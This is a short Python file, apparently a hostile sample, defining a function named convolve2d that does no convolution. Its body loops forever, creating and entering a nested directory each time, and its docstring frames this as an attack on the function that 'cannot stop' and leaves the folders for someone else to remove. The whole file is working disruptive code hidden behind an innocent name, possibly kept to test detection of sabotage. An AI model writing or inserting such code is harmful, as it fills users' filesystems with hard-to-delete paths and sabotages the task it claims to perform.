# mypy: ignore-errors
"""Nests folders as deep as it can, for whoever has to remove them.

Attacks: convolve2d
Earns: nothing
Process level: cannot stop it
"""

import os


def convolve2d(image, kernel):
    while True:
        os.mkdir("d")
        os.chdir("d")
